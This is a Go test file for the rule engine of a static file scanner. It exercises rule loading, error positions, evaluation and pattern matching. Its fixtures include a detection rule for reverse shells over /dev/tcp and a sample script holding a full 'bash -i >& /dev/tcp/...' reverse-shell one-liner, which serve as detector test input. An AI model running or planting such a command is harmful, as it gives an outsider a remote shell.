package rules

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"

	"kensa.dev/kensa/analyzers"
	"kensa.dev/kensa/analyzers/sniff"
	textscan "kensa.dev/kensa/analyzers/strings"
	"kensa.dev/kensa/internal/result"
	"kensa.dev/kensa/rules/pattern"
)

// DemoFacts stand in for an analyzer's facts type in these tests: the engine must work
// with any facts struct an analyzer declares.
type DemoFacts struct {
	Type     string        `json:"type"`
	PIE      bool          `json:"pie"`
	Sections []DemoSection `json:"sections,omitempty"`
	Needed   []string      `json:"needed"`
	Entry    uint64        `json:"entry"`
}

type DemoSection struct {
	Name    string  `json:"name"`
	Entropy float64 `json:"entropy"`
}

type demoAnalyzer struct{}

func (demoAnalyzer) Name() string                                              { return "demo" }
func (demoAnalyzer) Schema() any                                               { return (*DemoFacts)(nil) }
func (demoAnalyzer) Wants(*analyzers.Artifact) bool                            { return true }
func (demoAnalyzer) Analyze(context.Context, *analyzers.Artifact) (any, error) { return nil, nil }

var demo = []analyzers.Analyzer{demoAnalyzer{}}

func load(t *testing.T, dir string) *Pack {
	t.Helper()
	p, err := LoadPack(os.DirFS("testdata"), dir, dir, []string{"demo"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestLoadErrorsNamePositions(t *testing.T) {
	_, err := LoadPack(os.DirFS("testdata"), "bad", "bad", []string{"demo"})
	var errs Errors
	if !errors.As(err, &errs) {
		t.Fatalf("want Errors, got %v", err)
	}
	got := err.Error()
	for _, want := range []string{
		`bad/errors.yaml:1:5: id "Bad ID": want category/name in lower case`,
		`bad/errors.yaml:3:11: severity "severe": want info, low, medium, high or critical`,
		`bad/errors.yaml:5:13: applies_to: unknown format "nosuchformat"`,
		`bad/errors.yaml:7:13: pattern name "artifact" is taken by a variable of the condition`,
		`bad/errors.yaml:8:8: pattern "two": give exactly one of literal, hex and regex`,
		`bad/errors.yaml:11:3: Bad ID needs at least one test that must match and one that must not (it has 1 and 0)`,
		`bad/errors.yaml:22:1: unknown field "colour"`,
		`bad/errors.yaml:37:8: YAML aliases are not allowed in rule files`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing error %q in:\n%s", want, got)
		}
	}
}

func TestCompileErrorsNamePositions(t *testing.T) {
	p, _ := LoadPack(os.DirFS("testdata"), "bad", "bad", []string{"demo"})
	_, err := Compile([]*Pack{p}, demo)
	got := err.Error()
	for _, want := range []string{
		`bad/errors.yaml:44:17: condition: undefined field 'nosuch'`,
		`bad/errors.yaml:30:13: condition: found no matching overload for '_+_' applied to '(string, int)'`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing error %q in:\n%s", want, got)
		}
	}
}

func TestEvaluate(t *testing.T) {
	e, err := Compile([]*Pack{load(t, "good")}, demo)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(e.Rules()); n != 2 {
		t.Fatalf("%d rules", n)
	}
	ids := map[string]bool{}
	for _, p := range e.Patterns() {
		ids[p.ID] = true
	}
	if !ids["backdoor/dev-tcp-shell#devtcp"] || !ids["backdoor/dev-tcp-shell#interactive"] || len(ids) != 2 {
		t.Fatalf("patterns: %v", ids)
	}
	ctx := context.Background()

	// A script: only the pattern rule applies.
	in := &Input{
		Artifact: Artifact{Path: "install.sh", Format: "script"},
		Hits: map[string]Hits{
			"backdoor/dev-tcp-shell#devtcp":      {Count: 1, Offsets: []int64{40}, Samples: []string{"/dev/tcp/"}},
			"backdoor/dev-tcp-shell#interactive": {Count: 1, Offsets: []int64{30}, Samples: []string{"bash -i"}},
		},
	}
	fs, errs := e.Evaluate(ctx, in)
	if len(errs) != 0 || len(fs) != 1 {
		t.Fatalf("findings %+v, errors %v", fs, errs)
	}
	f := fs[0]
	if f.Rule != "backdoor/dev-tcp-shell" || f.Severity != result.Critical || f.Path != "install.sh" || f.Message != "Shell redirected to a TCP connection" {
		t.Errorf("finding: %+v", f)
	}
	if len(f.Evidence) < 2 || f.Evidence[0] != `pattern devtcp: 1 match, first at offset 40: "/dev/tcp/"` {
		t.Errorf("evidence: %q", f.Evidence)
	}
	// Without the second pattern, one /dev/tcp is not enough; two are.
	delete(in.Hits, "backdoor/dev-tcp-shell#interactive")
	if fs, _ := e.Evaluate(ctx, in); len(fs) != 0 {
		t.Errorf("fired on one match: %+v", fs)
	}
	in.Hits["backdoor/dev-tcp-shell#devtcp"] = Hits{Count: 2, Offsets: []int64{40, 90}}
	if fs, _ := e.Evaluate(ctx, in); len(fs) != 1 {
		t.Errorf("did not fire on two matches: %+v", fs)
	}

	// An ELF: the facts decide, and the evidence quotes them.
	elf := &Input{Artifact: Artifact{Path: "usr/bin/x", Format: "elf"}, Facts: map[string]any{
		"demo": &DemoFacts{Type: "exec", Sections: []DemoSection{{Name: ".text", Entropy: 6.1}}},
	}}
	fs, errs = e.Evaluate(ctx, elf)
	if len(errs) != 0 || len(fs) != 1 || fs[0].Rule != "hardening/no-pie" {
		t.Fatalf("findings %+v, errors %v", fs, errs)
	}
	ev := strings.Join(fs[0].Evidence, "; ")
	if !strings.Contains(ev, `demo.type = "exec"`) || !strings.Contains(ev, `demo.pie = false`) || !strings.Contains(ev, `demo.sections = [1 items]`) {
		t.Errorf("evidence: %q", fs[0].Evidence)
	}
	elf.Facts["demo"].(*DemoFacts).PIE = true
	if fs, _ := e.Evaluate(ctx, elf); len(fs) != 0 {
		t.Errorf("fired on a PIE: %+v", fs)
	}
	// No facts at all (the analyzer failed): zero values, no finding, no crash.
	if fs, errs := e.Evaluate(ctx, &Input{Artifact: Artifact{Format: "elf"}}); len(fs) != 0 || len(errs) != 0 {
		t.Errorf("no facts: %+v %v", fs, errs)
	}
}

func TestCostLimit(t *testing.T) {
	e := compileOne(t, `id: x/slow
title: t
severity: low
description: d
applies_to: [any]
condition: demo.needed.all(a, demo.needed.all(b, demo.needed.all(c, a + b + c != "")))
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`, []string{"demo"}, demo)
	needed := make([]string, 1000)
	for i := range needed {
		needed[i] = "lib"
	}
	_, errs := e.Evaluate(context.Background(), &Input{Artifact: Artifact{Format: "elf"}, Facts: map[string]any{"demo": &DemoFacts{Needed: needed}}})
	if len(errs) != 1 || !strings.Contains(errs[0].Error(), "cost limit") {
		t.Fatalf("want a cost limit error, got %v", errs)
	}
}

func TestLoadDirs(t *testing.T) {
	packs, err := Load(Sources{Builtin: true, Dirs: []string{"testdata/good"}}, []string{"demo"})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, p := range packs {
		for _, r := range p.Rules {
			got = append(got, p.Name+" "+r.File+" "+r.ID.Value)
		}
	}
	want := "good testdata/good/shell.yaml backdoor/dev-tcp-shell"
	if len(got) == 0 || got[len(got)-2] != want {
		t.Errorf("rules: %q", got)
	}
	_, err = Load(Sources{Dirs: []string{"testdata/bad"}}, []string{"demo"})
	if err == nil || !strings.Contains(err.Error(), "testdata/bad/errors.yaml:1:5: ") {
		t.Errorf("errors should name the file as given: %v", err)
	}
	if _, err := Load(Sources{Dirs: []string{"testdata/nosuch"}}, nil); err == nil || !strings.Contains(err.Error(), "--rules testdata/nosuch") {
		t.Errorf("missing dir: %v", err)
	}
}

func TestNeeds(t *testing.T) {
	e, err := Compile([]*Pack{load(t, "good")}, demo)
	if err != nil {
		t.Fatal(err)
	}
	if n := e.Needs(); len(n) != 1 || n[0].Name() != "demo" {
		t.Errorf("needs %v", n)
	}
	p := load(t, "good")
	p.Rules = p.Rules[:1] // the pattern rule reads no facts
	e, err = Compile([]*Pack{p}, demo)
	if err != nil {
		t.Fatal(err)
	}
	if n := e.Needs(); len(n) != 0 {
		t.Errorf("needs %v", n)
	}
}

func TestMatchAnalyzer(t *testing.T) {
	e, err := Compile([]*Pack{load(t, "good")}, demo)
	if err != nil {
		t.Fatal(err)
	}
	m := e.MatchAnalyzer()
	body := []byte("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n")
	a := &analyzers.Artifact{Path: "x.sh", Format: "script", Size: int64(len(body)), Content: bytes.NewReader(body)}
	if !m.Wants(a) || m.Wants(&analyzers.Artifact{Format: "elf"}) {
		t.Fatal("Wants should follow the formats of the rules with patterns")
	}
	facts, err := m.Analyze(context.Background(), a)
	if err != nil {
		t.Fatal(err)
	}
	fs, errs := e.Evaluate(context.Background(), &Input{Artifact: Artifact{Path: "x.sh", Format: "script"}, Facts: map[string]any{MatchesName: facts}})
	if len(errs) != 0 || len(fs) != 1 {
		t.Fatalf("findings %+v errors %v", fs, errs)
	}
	if got := fs[0].Evidence[0]; got != `pattern devtcp: 1 match, first at offset 21: "/dev/tcp/"` {
		t.Errorf("evidence %q", fs[0].Evidence)
	}
}

func TestPatternErrorsNamePositions(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(dir+"/p.yaml", []byte(`id: x/bad-hex
title: t
severity: low
description: d
applies_to: [any]
patterns:
  ok: {literal: "abcd"}
  broken: {hex: "4D 5A [5-2] 90"}
condition: ok || broken
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`), 0o644)
	p, err := LoadPack(os.DirFS(dir), ".", "p", nil)
	if err != nil {
		t.Fatal(err)
	}
	_, err = Compile([]*Pack{p}, demo)
	if err == nil || !strings.Contains(err.Error(), "p.yaml:8:11: pattern broken") {
		t.Fatalf("want the pattern's position, got %v", err)
	}
}

// TestFailedAnalyzerNotJudged: a rule that reads the facts of an analyzer that failed on
// the file is not evaluated there: its facts are unknown, not zero (a PE file whose parse
// was stopped is not "a PE without ASLR").
func TestFailedAnalyzerNotJudged(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(dir+"/nopie.yaml", []byte(`id: x/no-pie
title: t
severity: low
description: d
applies_to: [elf]
condition: "!demo.pie"
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`), 0o644)
	p, err := LoadPack(os.DirFS(dir), ".", "nopie", []string{"demo"})
	if err != nil {
		t.Fatal(err)
	}
	e, err := Compile([]*Pack{p}, demo)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if fs, _ := e.Evaluate(ctx, &Input{Artifact: Artifact{Format: "elf"}, Facts: map[string]any{"demo": &DemoFacts{}}}); len(fs) != 1 {
		t.Fatalf("the rule does not fire on its own facts: %+v", fs)
	}
	failed := &Input{Artifact: Artifact{Format: "elf"}, Facts: map[string]any{"demo": nil}, Failed: map[string]bool{"demo": true}}
	if fs, errs := e.Evaluate(ctx, failed); len(fs) != 0 || len(errs) != 0 {
		t.Errorf("judged on the zero facts of a failed analyzer: %+v %v", fs, errs)
	}
}

// TestMatchAnalyzerFromSpec: the matcher made from another matcher's Spec (as a walk
// worker makes it) wants the same files and finds the same matches, a literal of bytes
// that are not UTF-8 included.
func TestMatchAnalyzerFromSpec(t *testing.T) {
	e := compileOne(t, `id: x/bytes
title: t
severity: low
description: d
applies_to: [data, script]
patterns:
  raw: {hex: "FF FE 00 41"}
  word: {literal: "/dev/tcp/", nocase: true}
condition: raw || word
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`, nil, demo)
	m := e.MatchAnalyzer()
	spec, err := m.(interface {
		Spec() (json.RawMessage, error)
	}).Spec()
	if err != nil {
		t.Fatal(err)
	}
	made, err := NewMatchAnalyzer(spec)
	if err != nil {
		t.Fatal(err)
	}
	body := []byte("x\xff\xfe\x00A /DEV/TCP/1.2.3.4 \xff\xfe\x00A")
	a := &analyzers.Artifact{Path: "x", Format: "data", Size: int64(len(body)), Content: bytes.NewReader(body)}
	if !made.Wants(a) || made.Wants(&analyzers.Artifact{Format: "elf"}) {
		t.Fatal("the made matcher wants other files")
	}
	want, err1 := m.Analyze(context.Background(), a)
	got, err2 := made.Analyze(context.Background(), a)
	wj, _ := json.Marshal(want)
	gj, _ := json.Marshal(got)
	if err1 != nil || err2 != nil || !bytes.Equal(wj, gj) || !strings.Contains(string(gj), `#raw"`) {
		t.Errorf("matches %s (%v), made from the spec %s (%v)", wj, err1, gj, err2)
	}
	// A literal's bytes cross as they are.
	set, err := pattern.Compile([]pattern.Def{{ID: "bin", Kind: pattern.Literal, Text: "\xff\xfe\x00A"}})
	if err != nil {
		t.Fatal(err)
	}
	spec, _ = (&matchAnalyzer{set: set, defs: []pattern.Def{{ID: "bin", Kind: pattern.Literal, Text: "\xff\xfe\x00A"}}, formats: map[string]bool{"data": true}}).Spec()
	if made, err = NewMatchAnalyzer(spec); err != nil {
		t.Fatal(err)
	}
	ms, err := made.Analyze(context.Background(), a)
	if b, _ := json.Marshal(ms); err != nil || !strings.Contains(string(b), `"id":"bin","count":2`) {
		t.Errorf("the literal of raw bytes, made from the spec, found %s (%v)", b, err)
	}
	if _, err := NewMatchAnalyzer(json.RawMessage(`{"patterns":[{"id":"x","kind":2,"text":"KA=="}]}`)); err == nil {
		t.Error("a spec with a pattern that does not compile was accepted")
	}
}

// A rule that reads the strings analyzer's listing gets the analyzer that fills it; a
// rule that reads its other facts does not make every file's strings listed.
func TestNeedsListing(t *testing.T) {
	for _, c := range []struct {
		condition string
		want      any
	}{
		{`strings.stringCount > 3 && strings.notable.size() > 0`, textscan.Analyzer{}},
		{`strings.strings.exists(s, s.value.contains("x"))`, textscan.Listing{}},
		{`size(strings.strings) > 2`, textscan.Listing{}},
	} {
		e := compileOne(t, `id: x/r
title: t
severity: low
description: d
applies_to: [any]
condition: `+c.condition+`
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`, []string{"strings"}, []analyzers.Analyzer{textscan.New()})
		if n := e.Needs(); len(n) != 1 || n[0] != c.want {
			t.Errorf("%s: needs %#v, want %#v", c.condition, n, c.want)
		}
	}
}

// The matcher does not read the bytes of an archive or compressed stream whose members it
// matches on its own, unless a rule names that format.
func TestMatchAnalyzerSkipsOpenedFormats(t *testing.T) {
	for _, c := range []struct {
		appliesTo string
		format    string
		want      bool
	}{
		{"[any]", "tar", false},
		{"[any]", "gzip", false},
		{"[any]", "deb", false},
		{"[any]", "pdf", true},
		{"[any]", "elf", true},
		{"[deb]", "deb", true},
		{"[any, zip]", "zip", true},
	} {
		e := compileOne(t, `id: x/r
title: t
severity: low
description: d
applies_to: `+c.appliesTo+`
patterns:
  p: {literal: "needle"}
condition: p
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`, nil, nil)
		if got := e.MatchAnalyzer().Wants(&analyzers.Artifact{Format: sniff.Format(c.format), Size: 10}); got != c.want {
			t.Errorf("applies_to %s, a %s file: wants %v, want %v", c.appliesTo, c.format, got, c.want)
		}
	}
}

// compileOne compiles a pack of the one rule written in ruleYAML, whose conditions may
// name the analyzers names.
func compileOne(t *testing.T, ruleYAML string, names []string, an []analyzers.Analyzer) *Engine {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(dir+"/r.yaml", []byte(ruleYAML), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := LoadPack(os.DirFS(dir), ".", "r", names)
	if err != nil {
		t.Fatal(err)
	}
	e, err := Compile([]*Pack{p}, an)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestRulesQuietWithoutHits: a condition that reads only its patterns, and is false when
// none matched, is not evaluated on a file without a hit; one that reads a file's facts,
// or is true without a hit, still is, and every rule judges as before.
func TestRulesQuietWithoutHits(t *testing.T) {
	tests := []struct {
		cond  string
		quiet bool
		bare  bool // fires on a file without hits (PIE, size 100)
		hit   bool // fires on a file where only a matched, once
	}{
		{`a || (b && c)`, true, false, true},
		{`count.a > 1 || [a, b].exists(p, p) && size(offsets.c) == 0`, true, false, true},
		{`!a`, false, true, false},
		{`a || demo.pie`, false, true, true},
		{`a && !demo.pie`, false, false, false},
		{`artifact.size > 10 && !b`, false, true, true},
		{`[1, 2].exists(demo, demo > 1) && !a`, false, true, false},
	}
	ctx := context.Background()
	for _, tc := range tests {
		e := compileOne(t, `id: x/q
title: t
severity: low
description: d
applies_to: [any]
patterns:
  a: {literal: "alpha"}
  b: {literal: "bravo"}
  c: {literal: "charlie"}
condition: "`+tc.cond+`"
tests: [{fixture: a, match: true}, {fixture: b, match: false}]
`, []string{"demo"}, demo)
		if got := e.rules[0].quietWithoutHits; got != tc.quiet {
			t.Errorf("%s: quiet without hits %v, want %v", tc.cond, got, tc.quiet)
		}
		art := Artifact{Format: "elf", Size: 100}
		facts := map[string]any{"demo": &DemoFacts{PIE: true}}
		bare, errs := e.Evaluate(ctx, &Input{Artifact: art, Facts: facts})
		if len(errs) > 0 || (len(bare) == 1) != tc.bare {
			t.Errorf("%s, no hits: findings %v, errors %v; want a finding: %v", tc.cond, bare, errs, tc.bare)
		}
		hits := map[string]Hits{PatternID("x/q", "a"): {Count: 1, Offsets: []int64{7}, FirstLength: 5}}
		hit, errs := e.Evaluate(ctx, &Input{Artifact: art, Facts: facts, Hits: hits})
		if len(errs) > 0 || (len(hit) == 1) != tc.hit {
			t.Errorf("%s, a matched: findings %v, errors %v; want a finding: %v", tc.cond, hit, errs, tc.hit)
		}
	}
}
